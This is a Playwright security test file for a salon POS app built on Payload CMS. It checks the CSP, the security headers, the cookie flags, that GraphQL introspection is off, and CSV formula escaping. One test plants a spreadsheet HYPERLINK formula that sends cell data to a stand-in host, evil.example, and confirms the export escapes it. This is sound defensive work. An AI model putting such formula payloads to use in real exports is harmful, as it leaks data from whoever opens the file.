/**
 * Issue 12 in the production build: the security headers and the pages' nonce CSP leave every
 * screen and the Payload admin working (no CSP violation in Chromium), the session cookie is
 * Secure, GraphQL has no introspection or playground, and a CSV export escapes formulae.
 * Screenshots: test-results/security/.
 */
import { expect, test, type Page } from '@playwright/test'

import { freshPhone, fromThePage, login } from './helpers'

/** Every CSP violation and console error of the page, from before its first script runs. */
async function watch(page: Page) {
  const errors: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(message.text())
  })
  page.on('pageerror', (error) => errors.push(error.message))
  await page.addInitScript(() => {
    const seen: string[] = ((window as unknown as { __csp: string[] }).__csp = [])
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`))
  })
  return {
    errors,
    violations: async () => page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []),
  }
}

const cspProblems = (errors: string[]) => errors.filter((text) => /content security policy|refused to/i.test(text))

test.describe('screens render under the CSP', () => {
  for (const [screen, heading] of [
    ['/pos', /checkout|pos/i],
    ['/customers', /customers/i],
    ['/dashboard', /dashboard/i],
  ] as const) {
    test(`${screen} (owner)`, async ({ page }) => {
      const watched = await watch(page)
      await login(page, 'owner')
      const response = await page.goto(screen)
      expect(response?.status()).toBe(200)
      const csp = response!.headers()['content-security-policy']
      expect(csp).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/)
      expect(csp).toContain("frame-ancestors 'none'")
      await expect(page.getByRole('heading', { level: 1 }).first()).toHaveText(heading)
      await page.waitForLoadState('networkidle')
      await page.screenshot({ path: `test-results/security/${screen.slice(1)}.png`, fullPage: true })
      expect(await watched.violations()).toEqual([])
      expect(cspProblems(watched.errors), watched.errors.join('\n')).toEqual([])
    })
  }

  test('the POS still completes a bill (client code runs)', async ({ page }) => {
    const watched = await watch(page)
    await login(page, 'cashier')
    await page.goto('/pos')
    await page.getByLabel('Find customer').fill(freshPhone())
    await page.getByLabel('New customer name').fill('CSP Check')
    await page.getByRole('button', { name: 'Create customer' }).click()
    await expect(page.getByTestId('selected-customer')).toContainText('CSP Check')
    await page.getByLabel('Service 1', { exact: true }).fill('Trim')
    await page.getByLabel('Price 1', { exact: true }).fill('100')
    await page
      .getByRole('button', { name: /Complete bill/ })
      .first()
      .click()
    await expect(page.getByTestId('receipt')).toBeVisible()
    expect(await watched.violations()).toEqual([])
    expect(cspProblems(watched.errors), watched.errors.join('\n')).toEqual([])
  })

  test('/admin (Payload admin, owner): login, dashboard, a list and a document', async ({ page }) => {
    const watched = await watch(page)
    await page.goto('/admin/login')
    await page.locator('input[name="email"]').fill('owner@demo.tally')
    await page.locator('input[name="password"]').fill('demo-pass')
    await page.locator('button[type="submit"]').click()
    await expect(page).not.toHaveURL(/\/login/)
    const response = await page.goto('/admin')
    expect(response?.headers()['content-security-policy']).toMatch(/'nonce-/)
    await page.waitForLoadState('networkidle')
    await page.screenshot({ path: 'test-results/security/admin.png', fullPage: true })
    await page.goto('/admin/collections/customers?search=Priya')
    await expect(page.getByText('Priya Sharma')).toBeVisible()
    await page.getByText('Priya Sharma').click()
    await expect(page.locator('input[name="pendingBalance"]')).toBeDisabled()
    // saving goes through the guard (Origin, multipart) and the document lock (scoped to the store)
    await page.locator('textarea[name="notes"]').fill(`Checked under the CSP ${Date.now()}`)
    await page.getByRole('button', { name: 'Save' }).click()
    await expect(page.getByText(/successfully/i).first()).toBeVisible()
    await page.waitForLoadState('networkidle')
    await page.screenshot({ path: 'test-results/security/admin-customer.png', fullPage: true })
    expect(await watched.violations()).toEqual([])
    expect(cspProblems(watched.errors), watched.errors.join('\n')).toEqual([])
  })
})

test.describe('headers', () => {
  test('every page and API answer: no framing, no sniffing, no referrer to other sites; HSTS over HTTPS', async ({ page }) => {
    for (const path of ['/login', '/api/health', '/api/customers', '/_next/static/not-there.js']) {
      const headers = (await page.request.get(path)).headers()
      expect(headers['x-frame-options'], path).toBe('DENY')
      expect(headers['x-content-type-options'], path).toBe('nosniff')
      expect(headers['referrer-policy'], path).toBe('same-origin')
      expect(headers['strict-transport-security'], `${path} over http`).toBeUndefined()
    }
    const api = (await page.request.get('/api/health')).headers()
    expect(api['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'")
    const viaTls = (await page.request.get('/api/health', { headers: { 'X-Forwarded-Proto': 'https' } })).headers()
    expect(viaTls['strict-transport-security']).toMatch(/max-age=\d+/)
    const pageViaTls = (await page.request.get('/login', { headers: { 'X-Forwarded-Proto': 'https' } })).headers()
    expect(pageViaTls['strict-transport-security']).toMatch(/max-age=\d+/)
    expect(pageViaTls['content-security-policy']).toContain('upgrade-insecure-requests')
  })

  test('each page gets its own nonce', async ({ page }) => {
    const nonce = async () => /'nonce-([^']+)'/.exec((await page.request.get('/login')).headers()['content-security-policy'] ?? '')?.[1]
    const [first, second] = [await nonce(), await nonce()]
    expect(first).toBeTruthy()
    expect(first).not.toBe(second)
  })

  test('the session cookie is Secure and HttpOnly in production', async ({ page }) => {
    const response = await page.request.post('/api/users/login', { data: { email: 'cashier@demo.tally', password: 'demo-pass' } })
    expect(response.status()).toBe(200)
    const cookie = response.headersArray().find((header) => header.name.toLowerCase() === 'set-cookie' && header.value.startsWith('payload-token='))
    expect(cookie?.value).toMatch(/;\s*Secure/i)
    expect(cookie?.value).toMatch(/;\s*HttpOnly/i)
  })
})

test.describe('GraphQL in production', () => {
  test('no introspection, no playground', async ({ page }) => {
    const introspection = await page.request.post('/api/graphql', { data: { query: '{ __schema { types { name } } }' } })
    const body = await introspection.json()
    expect(body.data?.__schema ?? null).toBeNull()
    expect(JSON.stringify(body.errors)).toMatch(/introspection/i)
    expect((await page.request.get('/api/graphql-playground')).status()).toBe(404)
  })
})

test('the customers CSV export writes a formula-looking name as text (issue 12 #9)', async ({ page }) => {
  await login(page, 'owner')
  const stores = await (await page.request.get('/api/stores?where[name][equals]=Demo%20Salon&depth=0')).json()
  const store = stores.docs[0].id as number
  const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
  const created = await page.request.post('/api/customers/resolve', { data: { store, phone: freshPhone(), name }, headers: fromThePage(page) })
  expect(created.ok(), await created.text()).toBe(true)
  const csv = await (await page.request.get(`/customers/export?store=${store}&q=${encodeURIComponent('HYPERLINK')}`)).text()
  const line = csv.split('\r\n').find((row) => row.includes('HYPERLINK'))
  expect(line).toBeDefined()
  expect(line!.startsWith(`"'=HYPERLINK(`)).toBe(true)
  expect(line).toMatch(/,\+91\d{10},/) // the phone stays a plain value
})
